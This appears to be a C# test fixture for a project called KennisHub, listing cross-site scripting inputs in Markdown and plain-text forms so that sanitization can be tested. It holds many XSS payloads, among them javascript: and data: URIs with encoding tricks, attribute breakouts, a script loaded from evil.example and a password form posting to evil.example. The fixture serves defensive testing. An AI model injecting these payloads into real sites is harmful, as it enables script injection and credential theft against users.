namespace KennisHub.Tests.Shared;

/// <summary>
/// Hostile input, shared by the Markdown tests (Core) and the page tests (Web) through a linked file: raw HTML,
/// Markdown links and images with dangerous schemes in disguise, broken and nested constructs, and strings that try
/// to break out of an HTML attribute or text context. Whatever field takes user text gets all of them.
/// </summary>
public static class AttackCorpus
{
    /// <summary>Markdown and HTML attacks, the first set the Markdown pipeline was tested with.</summary>
    public static readonly IReadOnlyList<string> Markdown =
    [
        // Raw HTML: disabled in the pipeline, sanitized anyway.
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<a href=\"javascript:alert(1)\">klik</a>",
        "<svg onload=alert(1)><circle r=10 /></svg>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<p style=\"color:red\">rood</p>",
        "<style>body{display:none}</style>",
        "<form action=\"https://evil.example\"><input name=p type=password></form>",
        "<input type=\"checkbox\" onclick=\"alert(1)\">",
        "<details open ontoggle=alert(1)>",
        "<body onload=alert(1)>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=\"x\" / onerror=\"alert(1)\"",
        "<<script>alert(1);//<</script>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\">",
        "<!-- <script>alert(1)</script> -->",

        // Markdown links and images with dangerous schemes, disguised.
        "[klik](javascript:alert(1))",
        "[klik](JavaScript:alert(1))",
        "[klik](  javascript:alert(1)  )",
        "[klik](jav&#x61;script:alert(1))",
        "[klik](jav&#97;script:alert(1))",
        "[klik](java&#x09;script:alert(1))",
        "[klik](<java\nscript:alert(1)>)",
        "[klik](vbscript:msgbox(1))",
        "[klik](VBScript:msgbox(1))",
        "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[klik](DATA:text/html,<script>alert(1)</script>)",
        "[klik](file:///etc/passwd)",
        "![plaatje](javascript:alert(1))",
        "![plaatje](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "![plaatje](\"onerror=\"alert(1))",
        "[klik][ref]\n\n[ref]: javascript:alert(1)",
        "[klik][ref]\n\n[ref]: JAVASCRIPT:alert(1) \"titel\"",
        "![plaatje][img]\n\n[img]: vbscript:msgbox(1)",
        "<javascript:alert(1)>",
        "<JAVASCRIPT:alert(1)>",
        "<vbscript:msgbox(1)>",
        "<data:text/html,<script>alert(1)</script>>",
        "www.example.org\"onmouseover=\"alert(1)",
        "[klik](https://example.org\"onmouseover=\"alert(1))",
        "[klik](https://example.org \"titel\" onclick=alert(1))",
        "[x](#\"onclick=\"alert(1))",

        // Generic attributes are not enabled: braces stay text.
        "# Kop {onclick=alert(1) style=color:red}",
        "[link](https://example.org){onclick=alert(1)}",

        // Broken and nested constructs.
        "[a [b](javascript:alert(1)) c](https://example.org)",
        "**[vet](javascript:alert(1))**",
        "| kol |\n|-----|\n| [x](javascript:alert(1)) |",
        "- [ ] <img src=x onerror=alert(1)>",
        "Tekst[^1]\n\n[^1]: [voetnoot](javascript:alert(1))",
        "> [citaat](vbscript:x)",
    ];

    /// <summary>Breaking out of the place plain text lands in: an attribute, a title, a textarea, a script block.</summary>
    public static readonly IReadOnlyList<string> PlainText =
    [
        "\"><script>alert(1)</script>",
        "'><img src=x onerror=alert(1)>",
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)' autofocus='",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "{{constructor.constructor('alert(1)')()}}",
    ];

    /// <summary>Everything: what a free-text field is fed.</summary>
    public static IReadOnlyList<string> All => [.. Markdown, .. PlainText];
}
